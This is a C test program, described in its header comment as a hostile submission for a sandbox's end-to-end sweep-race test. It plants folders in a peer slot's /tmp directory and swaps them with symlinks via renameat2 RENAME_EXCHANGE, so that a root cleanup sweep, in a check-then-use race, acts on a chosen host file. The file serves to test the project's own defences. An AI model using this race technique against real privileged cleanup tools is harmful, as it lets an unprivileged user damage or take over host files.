/*
 * sb_sweeprace: a hostile submission for tests/e2e/test_sweep_race.sh.
 * Without namespaces (WG_NO_NAMESPACES=1) and as root, the keeper sweeps
 * what a slot uid left in /tmp after each of its runs (sandbox_sweep.c),
 * while the other slot's run (another uid, the same program) goes on. Run
 * in both slots, this program tries to make one slot's sweep act on a host
 * file through a symlink swapped in between the sweep's check and its use.
 *
 * stdin: "race TAG TARGET". The program (uid U)
 *   - makes /tmp/TAG-U (mode 0777: U may rename anything in it);
 *   - for 150 or 600 ms (by the parity of U: the two slots end at
 *     different times, so one sweeps while the other runs), makes
 *     /tmp/TAG-V/d-U in every peer's folder /tmp/TAG-V (a folder of U's
 *     inside V's, which V's sweep does not own), and in its own folder
 *     swaps every peer's d-V with a symlink s-V -> TARGET
 *     (renameat2 RENAME_EXCHANGE) over and over: when V's sweep has seen
 *     d-V as V's folder and then acts on it by name, the name is the link;
 *   - at the end, closes /tmp/TAG-U (mode 0700): V's sweep cannot search
 *     it for the folders V planted there.
 * Prints "done". Bounded: one folder, a folder and a link per peer, 600 ms
 * of work at most.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

/* A folder of ours in each peer's folder (the sweep of U finds it in a
 * folder U does not own). */
static void plant(const char *prefix, unsigned u)
{
	DIR *t = opendir("/tmp");
	struct dirent *e;
	char path[600];

	if (!t)
		return;
	while ((e = readdir(t))) {
		if (strncmp(e->d_name, prefix, strlen(prefix)) ||
		    (unsigned)atol(e->d_name + strlen(prefix)) == u)
			continue;
		snprintf(path, sizeof(path), "/tmp/%s/d-%u", e->d_name, u);
		mkdir(path, 0755);
	}
	closedir(t);
}

/* Swaps each peer's folder in ours with a link to target. */
static void swap(int fd, const char *target)
{
	DIR *d = fdopendir(dup(fd));
	struct dirent *e;
	char link[300];

	if (!d)
		return;
	rewinddir(d);
	while ((e = readdir(d))) {
		if (strncmp(e->d_name, "d-", 2))
			continue;
		snprintf(link, sizeof(link), "s-%s", e->d_name + 2);
		symlinkat(target, fd, link);
		for (int i = 0; i < 20000; i++)
			syscall(SYS_renameat2, fd, e->d_name, fd, link, RENAME_EXCHANGE);
	}
	closedir(d);
}

static void race(const char *tag, const char *target)
{
	char mine[256], prefix[256];
	long end = now_ms() + 150 + (long)(getuid() % 2) * 450;
	unsigned u = (unsigned)getuid();
	int fd;

	snprintf(mine, sizeof(mine), "/tmp/%s-%u", tag, u);
	snprintf(prefix, sizeof(prefix), "%s-", tag);
	mkdir(mine, 0777);
	chmod(mine, 0777);
	fd = open(mine, O_RDONLY | O_DIRECTORY);
	if (fd < 0)
		return;
	while (now_ms() < end) {
		plant(prefix, u);
		swap(fd, target);
	}
	/* Closed to the peers: their sweeps cannot reach what they planted. */
	fchmod(fd, 0700);
	close(fd);
}

int main(void)
{
	char mode[16], tag[64], target[400];

	if (scanf("%15s %63s %399s", mode, tag, target) != 3 || strcmp(mode, "race"))
		return 2;
	race(tag, target);
	puts("done");
	return 0;
}
